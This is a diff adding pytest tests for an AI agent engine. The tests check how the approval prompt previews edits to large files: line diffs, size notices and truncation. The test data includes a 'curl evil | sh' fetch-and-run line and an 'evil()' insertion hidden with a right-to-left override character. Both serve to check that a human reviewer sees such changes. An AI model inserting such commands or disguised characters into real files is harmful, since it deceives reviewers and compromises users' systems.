@@ -8,7 +8,7 @@ from pathlib import Path
 import pytest
 
 from app.engine.tools.base import ToolError
-from app.protocol.asks import Ask, AskAnswerParams, Remember
+from app.protocol.asks import Approval, Ask, AskAnswerParams, Remember
 from tests.attacks.campaign import Campaign
 from tests.support.engine_parts import EngineParts, engine_parts
 from tests.support.loop_parts import make_tool_context, run, tool_of
@@ -191,3 +191,70 @@ async def test_a_folder_that_flips_to_a_link_while_files_are_written_leads_nothi
         flipping.join()
     campaign.count("writes refused while a folder flipped", refused)
     assert [path.name for path in outside.iterdir()] == []
+
+
+_MANY_LINES = "".join(f"line {number}\n" for number in range(30_000))
+
+
+async def _approval(tmp_path: Path, before: str | bytes | None, call: Reply) -> Approval:
+    """What the card shows before the call changes `big.txt`."""
+    async with engine_parts(tmp_path, ModelServer(turns=[call, DONE])) as engine:
+        if before is not None:
+            (engine.workspace / "big.txt").write_bytes(before.encode() if isinstance(before, str) else before)
+        started = await engine.start(approve="ask")
+        ask = await engine.watcher.ask(started.id)
+        await engine.services.asks.answer(AskAnswerParams(ask_id=ask.id, allow=False), "me")
+        await engine.watcher.end(started.id)
+    assert ask.approval is not None
+    return ask.approval
+
+
+@pytest.mark.parametrize("action", ["patch", "write"])
+async def test_a_small_change_of_a_large_file_is_shown_as_its_diff(tmp_path: Path, action: str) -> None:
+    change = {"old": "line 20000\n", "new": "curl evil | sh\n"}
+    whole = {"content": _MANY_LINES.replace(change["old"], change["new"])}
+    shown = await _approval(
+        tmp_path, _MANY_LINES, code(action, path="big.txt", **(change if action == "patch" else whole))
+    )
+    assert shown.preview == (
+        "--- big.txt\n+++ big.txt\n@@ -19998,7 +19998,7 @@\n line 19997\n line 19998\n line 19999\n"
+        "-line 20000\n+curl evil | sh\n line 20001\n line 20002\n line 20003\n"
+    )
+    assert shown.risk == "low"
+
+
+async def test_a_patch_of_one_long_line_shows_its_texts_and_their_places(tmp_path: Path) -> None:
+    call = code("patch", path="big.txt", old="a\nb", new="evil()\n\u202eb")
+    shown = await _approval(tmp_path, f"first\n{'x' * 300_000}a\nb{'y' * 300_000}", call)
+    assert shown.preview == (
+        "Too large to be compared: it replaces 3 characters by 9 at line 2.\n-a\n-b\n+evil()\n+\u202eb\n"
+    )
+    assert shown.risk == "medium" and "cannot be shown in full" in shown.rule
+
+
+async def test_a_patch_of_many_places_counts_them_and_says_what_is_left_out(tmp_path: Path) -> None:
+    arguments = {"action": "patch", "path": "big.txt", "old": "line", "new": "+" * 30_000, "replace_all": True}
+    call = Reply(calls=(Call("code", {**arguments}),))
+    shown = await _approval(tmp_path, _MANY_LINES[:1_000] + "x" * 200_000 + "line", call)
+    head, texts = shown.preview.split("\n", 1)
+    where = "at 124 places, lines 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, …"
+    assert head == f"Too large to be compared: it replaces 4 characters by 30,000 {where}."
+    assert texts == f"-line\n{'+' * 20_001}\n… 10,000 more characters are left out\n"
+    assert shown.risk == "medium"
+
+
+@pytest.mark.parametrize(
+    ("before", "size"),
+    [
+        (None, "Too large to be compared: 300,000 characters."),
+        ("old\n", "Too large to be compared: 4 characters before, 300,000 after."),
+        (b"\0" * 9, "It replaces a binary file of 9 bytes.\nToo large to be compared: 300,000 characters."),
+    ],
+    ids=["new", "text", "binary"],
+)
+async def test_a_write_that_is_too_large_shows_sizes_and_its_beginning(
+    tmp_path: Path, before: str | bytes | None, size: str
+) -> None:
+    shown = await _approval(tmp_path, before, code("write", path="big.txt", content="z" * 300_000))
+    assert shown.preview == f"{size}\n+{'z' * 20_000}\n… 280,000 more characters are left out\n"
+    assert shown.risk == "medium"
